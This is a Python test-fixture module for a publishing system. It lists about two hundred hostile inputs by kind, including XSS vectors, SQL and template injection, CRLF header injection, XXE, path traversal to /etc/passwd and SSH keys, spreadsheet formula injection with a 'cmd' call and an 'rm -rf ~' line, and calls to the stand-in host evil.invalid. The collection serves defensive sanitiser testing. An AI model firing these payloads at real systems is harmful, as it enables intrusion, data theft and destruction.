"""Two hundred texts that want to run, load, break out, mislead or fall over, as a publisher might write them.

What runs sets `window.ran` or opens a dialog; what loads asks `evil.invalid`, which no name server knows. They stand by
kind, so that a test can say which kind got through. After the OWASP cheat sheets on cross-site scripting and injection,
Heiderich et al. 2013 ("mXSS attacks"), and Boucher and Anderson 2021 ("Trojan Source").
"""

from __future__ import annotations

from itertools import chain
from typing import Final

__all__ = ["ELEMENTS", "HOSTILE", "KINDS", "RAN", "by_kind"]

RAN: Final = "window.ran=(window.ran||0)+1"
"""What every text that runs would do."""
_EVIL: Final = "//evil.invalid/x"
_R: Final = RAN

ELEMENTS: Final = (
    "iframe",
    "object",
    "embed",
    "base",
    "marquee",
    "math",
    "plaintext",
    "xmp",
    "portal",
    "frame",
    "applet",
)
"""Elements that no page of ours has: one of them is markup that got through."""

_SCRIPTS: Final = (
    f"<script>{_R}</script>",
    f"<SCRIPT>{_R}</SCRIPT>",
    f"<script\n>{_R}</script\n>",
    f"<script/x>{_R}</script>",
    f"<scr<script>ipt>{_R}</scr</script>ipt>",
    f"<<script>{_R}//<</script>",
    f"<script src=https:{_EVIL}.js></script>",
    f"<script src='{_EVIL}.js'></script>",
    f"<script type=module>{_R}</script>",
    f"</title><script>{_R}</script>",
    f"</style><script>{_R}</script>",
    f"</textarea><script>{_R}</script>",
    f"</script><script>{_R}</script>",
    f"--><script>{_R}</script><!--",
    f"]]><script>{_R}</script>",
    f'<noscript><p title="</noscript><script>{_R}</script>">',
    f"<template><script>{_R}</script></template>",
    f"<script>/*</script><script>*/{_R}</script>",
    f"\ufeff<script>{_R}</script>",
    f"＜script＞{_R}＜/script＞",
)
_EVENTS: Final = tuple(
    f"<{tag} {event}={quote}{_R}{quote}{rest}>"
    for tag, event, rest, quote in (
        ("img", "onerror", " src=x", '"'),
        ("img", "onerror", " src=x", "'"),
        ("img", "onerror", " src=x", ""),
        ("IMG", "ONERROR", " SRC=x:x", '"'),
        ("img", "onload", f" src={_EVIL}.png", "`"),
        ("body", "onload", "", '"'),
        ("body", "onpageshow", "", "'"),
        ("details", "ontoggle", " open", '"'),
        ("input", "onfocus", " autofocus", '"'),
        ("select", "onfocus", " autofocus", "'"),
        ("textarea", "onfocus", " autofocus", '"'),
        ("video", "onerror", "><source src=x", '"'),
        ("audio", "onerror", " src=x", "'"),
        ("marquee", "onstart", "", '"'),
        ("a", "onmouseover", " href=#", '"'),
        ("form", "onsubmit", "><input type=submit", '"'),
        ("div", "onpointerenter", "", "'"),
        ("style", "onload", "", '"'),
        ("link", "onerror", f" rel=stylesheet href={_EVIL}.css", '"'),
        ("iframe", "onload", " src=about:blank", '"'),
        ("object", "onerror", " data=x", '"'),
        ("keygen", "onfocus", " autofocus", '"'),
        ("x", "onclick", " contenteditable", '"'),
        ("dialog", "onclose", " open", "'"),
    )
)
_SVG: Final = (
    f"<svg onload={_R}>",
    f"<svg/onload='{_R}'>",
    f"<svg><script>{_R}</script></svg>",
    f"<svg><script href=data:,{_R}></script></svg>",
    f"<svg><animate onbegin={_R} attributeName=x dur=1s>",
    f"<svg><set onbegin={_R} attributeName=x to=0>",
    f"<svg><a xlink:href='javascript:{_R}'><text y=20>press</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{_R}</script></svg>#x'>",
    f"<svg><foreignObject><body onload={_R}></foreignObject></svg>",
    f"<svg><image href={_EVIL}.png onerror={_R}></svg>",
    f"<svg><style>@import '{_EVIL}.css'</style></svg>",
    f"<svg><title><img src=x onerror={_R}></title></svg>",
    f"<math href='javascript:{_R}'>press</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_R}>press</maction></math>",
    f"</text></svg><img src=x onerror={_R}>",
    f'"/></g></svg><script>{_R}</script>',
)
_ADDRESSES: Final = (
    f"javascript:{_R}",
    f"JaVaScRiPt:{_R}",
    f" javascript:{_R}",
    f"java\tscript:{_R}",
    f"java\nscript:{_R}",
    f"\x01javascript:{_R}",
    f"javascript://news.example/%0a{_R}",
    f"javascript&colon;{_R}",
    f"&#106;avascript:{_R}",
    f"vbscript:{_R}",
    f"data:text/html,<script>{_R}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={_R}>",
    "file:///etc/passwd",
    "blob:https://evil.invalid/1",
    f'https://evil.invalid/" onmouseover="{_R}',
    f"https://evil.invalid/' onmouseover='{_R}",
    f"https://evil.invalid/><script>{_R}</script>",
    "https://user:word@evil.invalid:99999/x",
    "https://[::1/x",
    "//evil.invalid/only-a-host",
    "https://evil.invalid/%00%0d%0aSet-Cookie:x=1",
)
_ATTRIBUTES: Final = (
    f'" onmouseover="{_R}',
    f"' onmouseover='{_R}",
    f"` onmouseover=`{_R}",
    f'"><img src=x onerror={_R}>',
    f"'><img src=x onerror={_R}>",
    f"><img src=x onerror={_R}>",
    f'"/><script>{_R}</script>',
    f"x onfocus={_R} autofocus ",
    f'" autofocus onfocus={_R} x="',
    f'" style="background:url({_EVIL}.png)',
    f'" hx-get="{_EVIL}" hx-trigger="load',
    f'" hx-on:click="{_R}',
    f'" formaction="{_EVIL}" x="',
    '" http-equiv="refresh" content="0;url=https://evil.invalid/',
    f"“ onmouseover=“{_R}”",
    f'\\" onmouseover=\\"{_R}',
    f"&quot; onmouseover=&quot;{_R}",
    f']" onmouseover="{_R}" [x="',
)
_TEMPLATES: Final = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% for x in range(99) %}{{ x }}{% endfor %}",
    "{# nothing to see #}",
    "{% include '/etc/passwd' %}",
    "{{ request.app.state.desk.library }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(id)s %s {0} {name!r}",
    f"{{{{constructor.constructor('{_R}')()}}}}",
    "{{'x'|safe}}",
    "*{7*7} @{x} ~{x}",
)
_SQL: Final = (
    "' OR '1'='1",
    "'; DROP TABLE articles; --",
    '"; DROP TABLE stories; --',
    "1 UNION SELECT body FROM texts",
    "x' AND 1=(SELECT COUNT(*) FROM sqlite_master); --",
    "%' OR title LIKE '%",
    "') OR NEAR(a b) --",
    '" OR ""="',
    "title:* AND NOT",
    'NEAR/0 ( " ^ *',
    "admin'--",
    "\\'; DELETE FROM decisions; --",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "0x27 || char(39)",
)
_DIRECTIONS: Final = (
    "\u202egnp.exe\u202c",
    "raid \u202e4 dellik\u202c says",
    "\u2066first\u2067second\u2069",
    "\u202d12\u202c of 21",
    "\u200fשלום\u200f 4 killed",
    "\u200e\u200f\u061c",
    "\u202b(left)\u202c",
    "\u2068unclosed isolate",
    "\u202eunclosed override",
    "\u2067\u2067\u2067\u2067 deep",
    "\u2029new\u2028line",
    "מרגל 4 של 12 killed",
    "قتل 12 شخصا",
)
_ODD: Final = (
    "null\x00inside",
    "bell\x07 and escape \x1b[31mred\x1b[0m",
    "\x1b]0;title of the window\x07",
    "\ufeffmark at the start",
    "\ufffe\uffff no characters",
    "zalgo h̵̡̛͍̘͇͂̿̓e̷̢̪̎̅͝ ҉̛̰̭̮",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\U000e0041\U000e0042 tags",
    "👩‍👩‍👧‍👦 family \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "soft\u00adhy\u200bphen\u2060ated",
    "ﷺﷺﷺ wide",
    "İıſK ẞ case",
    "\ufff9note\ufffaup\ufffbdone",
    "\x85next\x0bline\x0cfeed",
    "\u3164\u115f blank",
)
_STYLES: Final = (
    "<style>*{display:none}</style>",
    f"<style>@import url(https:{_EVIL}.css)</style>",
    f"<link rel=stylesheet href=https:{_EVIL}.css>",
    f'<p style="background:url(https:{_EVIL}.png)">x</p>',
    "<div style=position:fixed;inset:0;z-index:99>over everything</div>",
    f"expression({_R})",
    f"}} body{{background:url({_EVIL}.png)}} x{{",
    "/* */ */ \\3c script",
    "url('javascript:x')",
    f"<meta http-equiv=refresh content='0;url=https:{_EVIL}'>",
    f"<base href=https:{_EVIL}/>",
)
_MUTATIONS: Final = (
    f"<noscript><style></noscript><img src=x onerror={_R}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_R}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_R}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_R}>",
    f"<listing>&lt;img src=x onerror={_R}&gt;</listing>",
    f"<xmp><p title='</xmp><img src=x onerror={_R}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={_R}>'>",
    f"<iframe srcdoc='<script>parent.{_R}</script>'>",
    "<plaintext>the rest of the page",
    f"<!--><img src=x onerror={_R}>-->",
    f"<![CDATA[<img src=x onerror={_R}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={_R}>",
    "<form id=x><input name=action><input name=submit></form>",
    "<a id=ran name=ran href=clobbered>x</a>",
    f"<table><tr><td><img src=x onerror={_R}>",
)
_STREAMS: Final = (
    f'","x":"</script><script>{_R}</script>',
    "\\u003cscript\\u003e",
    '"}]}{"a":1',
    "x\n\ndata: <b>more</b>\n\n",
    "x\r\nevent: done\r\ndata: 1\r\n\r\n",
    "id: 99\nretry: 1\ndata: x",
    f"data: <img src=x onerror={_R}>\n\n",
    "\u2028data: x\u2029",
)
_HEADERS: Final = (
    "x\r\nSet-Cookie: session=1",
    "x\nLocation: https://evil.invalid/",
    "x\r\n\r\n<html>another answer</html>",
    "%0d%0aX-Injected: yes",
    'report.txt"; filename="evil.html',
    "report.txt\r\nContent-Type: text/html",
)
_ENTITIES: Final = (
    f"&lt;script&gt;{_R}&lt;/script&gt;",
    f"&#60;img src=x onerror={_R}&#62;",
    f"&#x3c;script&#x3e;{_R}",
    f"&amp;lt;script&amp;gt;{_R}",
    "&nbsp;&zwj;&lrm;&rlm;&bogus;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
_PATHS: Final = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.txt",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "CON",
    "~root/.ssh/id_rsa",
    "C:\\boot.ini",
)
_SHEETS: Final = (
    '=HYPERLINK("https://evil.invalid/"&A1,"press")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    f"[press](javascript:{_R})",
    f"![x](x onerror={_R})",
    "# a heading\n---\n| a | table |",
    "`; rm -rf ~ #`",
)
_LONG: Final = (
    "<b>" * 3_000,
    "A" * 12_000,
    "\u202e" * 2_000,
    '"' * 4_000,
)

KINDS: Final = {
    "script": _SCRIPTS,
    "event": _EVENTS,
    "svg": _SVG,
    "address": _ADDRESSES,
    "attribute": _ATTRIBUTES,
    "template": _TEMPLATES,
    "sql": _SQL,
    "direction": _DIRECTIONS,
    "odd": _ODD,
    "style": _STYLES,
    "mutation": _MUTATIONS,
    "stream": _STREAMS,
    "header": _HEADERS,
    "entity": _ENTITIES,
    "path": _PATHS,
    "sheet": _SHEETS,
    "long": _LONG,
}
HOSTILE: Final = tuple(chain.from_iterable(KINDS.values()))


def by_kind(*kinds: str) -> tuple[str, ...]:
    """The texts of some kinds."""
    return tuple(chain.from_iterable(KINDS[kind] for kind in kinds))
